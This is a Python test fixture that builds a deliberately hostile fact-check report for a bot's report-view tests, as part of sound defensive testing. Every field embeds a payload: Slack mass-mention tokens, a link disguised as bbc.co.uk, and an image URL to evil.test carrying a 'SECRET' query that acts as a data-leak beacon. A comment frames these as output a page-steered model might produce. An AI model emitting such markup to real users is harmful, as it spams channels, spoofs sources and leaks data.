"""Reports written by hand for the report-view tests: a hostile one (every field carries a payload)."""

from __future__ import annotations

from bot.models import (
    AnalysisStatus,
    ArticleInfo,
    Claim,
    CounterEvidence,
    EngineInfo,
    Report,
    Sourcing,
    SourcingStatus,
    Timings,
    Usage,
)

# What a page (or a model it steered) would like a chat client to do: ping, link, fetch, format.
PAYLOAD = (
    "<!channel> @everyone <@U123> <#C1> [[the official report]](https://evil.test/x) "
    "![p](https://evil.test/p.png?q=SECRET) <https://evil.test|bbc.co.uk> **bold** `code` a & b | c"
)
CITED = "https://gov.example/report-2024.pdf"


def hostile_report(*, claims: int = 3) -> Report:
    statuses = list(SourcingStatus)
    text = f"Spending rose 40% in 2024, the ministry said. {PAYLOAD}"
    return Report(
        article=ArticleInfo(
            url="https://paper.example/story",
            title=f"Budget story {PAYLOAD}",
            site_name=f"Paper {PAYLOAD}",
            author=f"Jo {PAYLOAD}",
            published="2026-01-02",
            language="en",
            text=text,
            word_count=len(text.split()),
        ),
        engine=EngineInfo(mode="llm", model="gpt-5-mini"),
        claims=[
            Claim(
                id=f"c{n}",
                quote=f"Spending rose {n}0% in 2024, the ministry said. {PAYLOAD}",
                start=0,
                end=45,
                checkworthiness=0.9,
                claimant=f"Minister {n} {PAYLOAD}",
                why_it_matters=f"The vote depends on it. {PAYLOAD}",
                sourcing=Sourcing(
                    status=statuses[n % len(statuses)],
                    source=f"The ministry {PAYLOAD}",
                    cue="said",
                    link=CITED if n % 2 else None,
                    gap=f"The figure has no document. {PAYLOAD}",
                    chain=[f"Minister {n}", f"Channel 9 {PAYLOAD}"] if n == 3 else [],
                ),
                context=f"Spending was flat in 2023, see {CITED} and https://evil.test/y. {PAYLOAD}",
                counter_evidence=[
                    CounterEvidence(text=f"The audit found 12%. {PAYLOAD} (to verify)"),
                    CounterEvidence(text=f"The ministry revised it. {PAYLOAD}"),
                ],
                questions=[f"Where is the document? {PAYLOAD}", f"Who computed 40%? {PAYLOAD}"],
                confidence="medium",
                analysis=AnalysisStatus.OK,
            )
            for n in range(1, claims + 1)
        ],
        summary=[f"It says spending rose. {PAYLOAD}", "It rests on one ministry.", "Check the audit."],
        sourcing_verdict=f"Thin: one named source. {PAYLOAD}",
        warnings=[f"One analysis was cut short. {PAYLOAD}"],
        usage=Usage(llm_calls=3, prompt_tokens=6000, completion_tokens=2000, total_tokens=8000, cost_usd=0.0123),
        timings=Timings(total_ms=4200),
    )
